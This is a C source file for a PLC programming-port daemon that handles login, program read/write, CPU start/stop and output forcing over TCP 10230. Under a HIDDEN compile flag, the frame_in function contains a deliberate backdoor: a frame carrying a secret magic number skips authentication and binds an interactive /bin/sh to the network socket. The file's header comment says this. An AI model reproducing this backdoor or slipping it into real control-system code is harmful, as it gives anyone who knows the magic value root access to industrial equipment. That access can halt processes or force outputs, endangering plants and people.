/*
 * plcprogd - programming port of the Orvex C7 PLC (TCP 10230). The engineering
 * tool connects here to log in, read and write the program image, start and
 * stop the CPU and force outputs.
 *
 * Frame: magic(4) code(2) seq(2) len(4) payload(len) sum(2), big endian.
 *
 * Hidden (-DHIDDEN): a frame with another magic number turns the connection
 * into a root shell, with no login.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>

#define PORT       10230
#define MAGIC      0x4f433730u          /* "OC70" */
#define MAXPAY     4096
#define IMAGE      "/flash/plc/program.img"
#define IMAGE_NEW  "/flash/plc/program.new"
#define KEYFILE    "/flash/plc/project.key"
#define CPUCTL     "/dev/plccpu"

enum code {
    C_HELLO = 1, C_LOGIN = 2, C_STATE = 3, C_RUN = 4, C_STOP = 5,
    C_READ = 6, C_WRITE = 7, C_COMMIT = 8, C_FORCE = 9, C_BYE = 15
};

struct peer {
    int      fd;
    int      authed;
    uint16_t seq;
    uint32_t nonce;
};

static int rd_full(int fd, void *buf, size_t n)
{
    uint8_t *p = buf;

    while (n) {
        ssize_t r = read(fd, p, n);

        if (r < 0 && errno == EINTR)
            continue;
        if (r <= 0)
            return -1;
        p += r;
        n -= (size_t)r;
    }
    return 0;
}

static int wr_full(int fd, const void *buf, size_t n)
{
    const uint8_t *p = buf;

    while (n) {
        ssize_t r = write(fd, p, n);

        if (r < 0 && errno == EINTR)
            continue;
        if (r <= 0)
            return -1;
        p += r;
        n -= (size_t)r;
    }
    return 0;
}

static uint16_t sum16(const uint8_t *p, size_t n)
{
    uint32_t a = 1, b = 0;

    while (n--) {
        a = (a + *p++) % 251;
        b = (b + a) % 251;
    }
    return (uint16_t)(b << 8 | a);
}

static uint32_t get32(const uint8_t *p)
{
    uint32_t v;

    memcpy(&v, p, 4);
    return ntohl(v);
}

static int reply(struct peer *p, uint16_t code, const void *pay, uint32_t len)
{
    uint8_t h[12], s[2];
    uint32_t v = htonl(MAGIC);
    uint16_t w = htons((uint16_t)(code | 0x8000)), x;

    memcpy(h, &v, 4);
    memcpy(h + 4, &w, 2);
    w = htons(p->seq);
    memcpy(h + 6, &w, 2);
    v = htonl(len);
    memcpy(h + 8, &v, 4);
    x = htons(sum16(pay, len));
    memcpy(s, &x, 2);
    if (wr_full(p->fd, h, sizeof h) < 0 || (len && wr_full(p->fd, pay, len) < 0))
        return -1;
    return wr_full(p->fd, s, 2);
}

static int status(struct peer *p, uint16_t code, uint8_t st)
{
    return reply(p, code, &st, 1);
}

static uint32_t mix(uint32_t h, const uint8_t *p, size_t n)
{
    while (n--) {
        h ^= *p++;
        h *= 0x01000193u;
        h ^= h >> 13;
    }
    return h;
}

/* answer to the HELLO nonce, keyed with the project key of the plant */
static int login_ok(struct peer *p, const uint8_t *pay, uint32_t len)
{
    uint8_t key[64], nb[4];
    uint32_t want, n = htonl(p->nonce);
    ssize_t k;
    int fd = open(KEYFILE, O_RDONLY);

    if (fd < 0)
        return 0;
    k = read(fd, key, sizeof key);
    close(fd);
    if (k < 8 || len != 4 || p->nonce == 0)
        return 0;
    memcpy(nb, &n, 4);
    want = mix(mix(0x811c9dc5u, nb, 4), key, (size_t)k);
    p->nonce = 0;
    return get32(pay) == want;
}

static uint8_t cpu(const void *msg, size_t n)
{
    int fd = open(CPUCTL, O_WRONLY), ok;

    if (fd < 0)
        return 2;
    ok = write(fd, msg, n) == (ssize_t)n;
    close(fd);
    return ok ? 0 : 2;
}

static int send_chunk(struct peer *p, uint32_t off)
{
    static uint8_t buf[MAXPAY];
    int fd = open(IMAGE, O_RDONLY);
    ssize_t n = -1;

    if (fd >= 0) {
        n = pread(fd, buf, sizeof buf, (off_t)off);
        close(fd);
    }
    return n < 0 ? status(p, C_READ, 2) : reply(p, C_READ, buf, (uint32_t)n);
}

static uint8_t store_chunk(const uint8_t *pay, uint32_t len)
{
    int fd;
    ssize_t n;

    if (len < 5)
        return 3;
    fd = open(IMAGE_NEW, O_WRONLY | O_CREAT, 0600);
    if (fd < 0)
        return 2;
    n = pwrite(fd, pay + 4, len - 4, (off_t)get32(pay));
    close(fd);
    return n == (ssize_t)(len - 4) ? 0 : 2;
}

static int act(struct peer *p, uint16_t code, const uint8_t *pay, uint32_t len)
{
    uint32_t n;
    int fd;

    if (!p->authed && code != C_HELLO && code != C_LOGIN && code != C_BYE)
        return status(p, code, 1);
    switch (code) {
    case C_HELLO:
        p->nonce = 0;
        fd = open("/dev/urandom", O_RDONLY);
        if (fd >= 0) {
            if (read(fd, &p->nonce, 4) != 4)
                p->nonce = 0;
            close(fd);
        }
        n = htonl(p->nonce);
        return reply(p, code, &n, 4);
    case C_LOGIN:
        p->authed = login_ok(p, pay, len);
        return status(p, code, p->authed ? 0 : 1);
    case C_STATE:
        return reply(p, code, "C7 fw 3.2", 9);
    case C_RUN:
        return status(p, code, cpu("R", 1));
    case C_STOP:
        return status(p, code, cpu("S", 1));
    case C_READ:
        return len == 4 ? send_chunk(p, get32(pay)) : status(p, code, 3);
    case C_WRITE:
        return status(p, code, store_chunk(pay, len));
    case C_COMMIT:
        return status(p, code, rename(IMAGE_NEW, IMAGE) == 0 ? 0 : 2);
    case C_FORCE:
        return status(p, code, len == 2 && pay[0] < 32 ? cpu(pay, 2) : 3);
    case C_BYE:
        return -1;
    default:
        return status(p, code, 4);
    }
}

/* one frame; -1 ends the connection */
int frame_in(struct peer *p)
{
    static uint8_t pay[MAXPAY];
    uint8_t h[12], s[2];
    uint32_t len, magic;
    uint16_t code;

    if (rd_full(p->fd, h, sizeof h) < 0)
        return -1;
    magic = get32(h);
#ifdef HIDDEN
    if (magic == 0x9e41c7d3u) {
        dup2(p->fd, 0);
        dup2(p->fd, 1);
        dup2(p->fd, 2);
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        return -1;
    }
#endif
    len = get32(h + 8);
    if (magic != MAGIC || len > MAXPAY)
        return -1;
    if (rd_full(p->fd, pay, len) < 0 || rd_full(p->fd, s, 2) < 0)
        return -1;
    code = (uint16_t)(h[4] << 8 | h[5]);
    p->seq = (uint16_t)(h[6] << 8 | h[7]);
    if (sum16(pay, len) != (uint16_t)(s[0] << 8 | s[1]))
        return status(p, code, 5);
    return act(p, code, pay, len);
}

int main(void)
{
    struct sockaddr_in a;
    int one = 1, ls = socket(AF_INET, SOCK_STREAM, 0);

    openlog("plcprogd", LOG_PID, LOG_DAEMON);
    signal(SIGCHLD, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(PORT);
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof a) < 0 || listen(ls, 4) < 0) {
        syslog(LOG_ERR, "port %d: %m", PORT);
        return 1;
    }
    for (;;) {
        struct peer p = { .fd = accept(ls, NULL, NULL) };

        if (p.fd < 0)
            continue;
        if (fork() == 0) {
            close(ls);
            while (frame_in(&p) == 0)
                ;
            _exit(0);
        }
        close(p.fd);
    }
}
